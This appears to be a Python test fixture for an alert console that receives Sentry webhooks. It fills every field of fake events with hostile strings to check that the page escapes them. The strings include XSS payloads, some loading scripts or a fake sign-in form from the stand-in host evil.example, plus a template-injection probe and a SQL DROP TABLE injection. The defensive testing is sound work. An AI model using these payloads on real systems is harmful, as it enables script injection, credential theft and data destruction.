"""What somebody might have Sentry say to get into the console, and alerts that say it everywhere."""

from __future__ import annotations

from routing.alert import Json
from tests.factories import Webhook, event_alert_webhook

STRINGS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "</title><script>alert(2)</script>",
    "</textarea><script>alert(3)</script>",
    "</pre></details></section><script>alert(4)</script>",
    "<img src=x onerror=alert(5)>",
    "<svg/onload=alert(6)>",
    "<svg><script>alert(7)</script></svg>",
    "<svg><animate onbegin=alert(8) attributeName=x dur=1s>",
    '"><script>alert(9)</script>',
    "'><script>alert(10)</script>",
    '" onmouseover="alert(11)" x="',
    "' onfocus='alert(12)' autofocus='",
    "javascript:alert(13)",
    "JaVaScRiPt:alert(14)",
    "java\tscript:alert(15)",
    "data:text/html,<script>alert(16)</script>",
    "vbscript:msgbox(17)",
    "<iframe srcdoc='<script>parent.alert(18)</script>'></iframe>",
    "<iframe src=javascript:alert(19)>",
    "<object data=javascript:alert(20)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(21)>'>",
    "<!--<img src='--><img src=x onerror=alert(22)//'>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(23)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=csrf_token><button>Sign in</button></form>",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${alert(24)} #{alert(25)} `alert(26)`",
    "&lt;script&gt;alert(27)&lt;/script&gt; &#x3c;img src=x&#x3e;",
    "\u202e\u2066>tpircs<)82(trela>tpircs/<",
    "]]><script>alert(29)</script><![CDATA[",
    "x' OR '1'='1'; DROP TABLE events; --",
    "+ADw-script+AD4-alert(30)+ADw-/script+AD4-",
)
"""Of the OWASP XSS Filter Evasion Cheat Sheet, PortSwigger's cheat sheet, and some of our own."""


def webhook(text: str, number: int) -> Webhook:
    """An alert of an issue of its own, that says this in every place where something may be said."""
    return event_alert_webhook(text, **_event(text, number))


def _event(text: str, number: int) -> dict[str, Json]:
    return {
        "event_id": f"{number:032x}",
        "issue_id": str(9_000_000 + number),
        "title": f"title {text}",
        "message": f"message {text}",
        "culprit": f"culprit {text}",
        "level": "error",
        "platform": f"platform {text}",
        "logger": f"logger {text}",
        "server_name": f"server {text}",
        "location": f"location {text}",
        "transaction": f"transaction {text}",
        "release": f"release {text}",
        "dist": f"dist {text}",
        "environment": f"environment {text}",
        "fingerprint": [f"fingerprint {text}"],
        "tags": [[f"tag {text}", f"value {text}"], ["environment", f"environment {text}"]],
        "user": {"id": f"id {text}", "email": f"email {text}", "username": f"username {text}", "ip_address": text, f"key {text}": text},
        "request": _request(text),
        "contexts": {
            f"context {text}": {f"key {text}": f"value {text}"},
            "replay": {"replay_id": text},
            "trace": {"trace_id": text, "span_id": text},
        },
        "extra": {f"extra {text}": {"nested": [text]}, "plain": f"extra value {text}"},
        "breadcrumbs": {"values": [_breadcrumb(text)]},
        "exception": {"values": [_exception("cause", text), _exception("raised", text)]},
        "web_url": text,
        "url": text,
        "issue_url": text,
        "sdk": {"name": text, "version": text},
    }


def _request(text: str) -> Json:
    return {
        "url": f"url {text}",
        "method": f"method {text}",
        "query_string": [[f"query {text}", f"asked {text}"]],
        "headers": [[f"header {text}", f"heading {text}"]],
        "cookies": [[f"cookie {text}", f"crumb {text}"]],
        "data": {f"field {text}": f"entry {text}"},
        "env": {f"variable {text}": f"set {text}"},
    }


def _breadcrumb(text: str) -> Json:
    return {
        "timestamp": f"when {text}",
        "level": f"grade {text}",
        "category": f"category {text}",
        "message": f"happened {text}",
        "data": {f"datum {text}": f"given {text}"},
    }


def _exception(which: str, text: str) -> Json:
    frame: Json = {
        "filename": f"{which} file {text}",
        "module": f"{which} module {text}",
        "function": f"{which} function {text}",
        "lineno": 7,
        "pre_context": [f"{which} before {text}"],
        "context_line": f"{which} line {text}",
        "post_context": [f"{which} behind {text}"],
        "in_app": True,
        "vars": {f"{which} name {text}": f"{which} content {text}"},
    }
    return {
        "type": f"{which} type {text}",
        "value": f"{which} value {text}",
        "module": f"{which} package {text}",
        "mechanism": {"type": f"{which} mechanism {text}", "handled": False},
        "stacktrace": {"frames": [frame]},
    }


def said(text: str) -> list[str]:
    """All that the page of such an alert must show, as text."""
    of_exceptions = [f"{which} {word}" for which in ("cause", "raised") for word in _OF_EXCEPTIONS.split()]
    return [f"{word} {text}" for word in (*_WORDS.split(), *of_exceptions)]


_WORDS = """
    title culprit platform logger server location transaction release dist environment tag value id email username key context
    extra url method query asked header heading cookie crumb field entry variable set when grade category happened datum given
"""
_OF_EXCEPTIONS = "file module function before line behind name content type value package mechanism"
